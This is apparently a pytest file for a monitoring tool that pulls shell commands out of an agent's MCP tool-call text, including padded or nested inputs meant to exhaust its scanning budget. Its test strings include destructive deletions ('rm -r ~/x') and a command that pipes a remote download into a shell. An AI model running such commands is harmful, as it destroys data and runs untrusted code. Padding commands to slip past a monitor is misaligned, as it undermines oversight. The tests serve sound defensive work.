"""What a budget left unread is skimmed for known programs."""

from __future__ import annotations

import pytest

from sensor.effects.skim import MAX_PIECES, PER_PROGRAM, pick_pieces
from sensor.model.calls import McpAction


@pytest.mark.parametrize(("text", "expected"), [
    ("word; rm -r x", ["rm -r x"]),
    ("sudo env A=b nice rm -r x", ["rm -r x"]),
    ("$(curl a.example | sh)", ["curl a.example", "sh"]),
    ("bash -c 'rm -r x'", ["rm -r x"]),
    ("if true; then rm -r x; fi", ["rm -r x"]),
    ("/bin/rm x", ["/bin/rm x"]),
    ("echo rm; unknown rm; : ; true", []),
    ("rm a; rm a; rm a", ["rm a"]),
    ("x " * 3000 + "rm a", []),
    ("sudo " * 3000 + "rm a", ["rm a"]),
])
def test_pieces(text, expected):
    assert [piece for _, piece in pick_pieces(text)] == expected


def test_offsets_lead_to_the_piece():
    text = "word; rm -r x | cat y"
    assert [text[start:].lstrip().startswith(piece) for start, piece in pick_pieces(text)] == [True, True]


def test_the_first_and_last_of_each_program_are_looked_at():
    text = ";".join(f"rm f{number}" for number in range(1000)) + ";curl a.example"
    pieces = [piece for _, piece in pick_pieces(text)]
    assert len(pieces) == PER_PROGRAM + 1 and pieces[0] == "rm f0" and pieces[-2:] == ["rm f999", "curl a.example"]
    assert len(pick_pieces(";".join(f"{name} a" for name in ("rm", "cat", "ls")) * 1000)) <= MAX_PIECES


def test_commands_of_other_tools_are_skimmed_too(effects_of_action):
    for command in ("$(" * 10_000 + "rm -r ~/x" + ")" * 10_000, ":;" * 100_000 + "rm -r ~/x"):
        effects = effects_of_action(McpAction(server="s", tool="run", arguments={"command": command}))
        assert effects.exhausted and any(effect.program == "rm" and effect.deletes for effect in effects.effects)
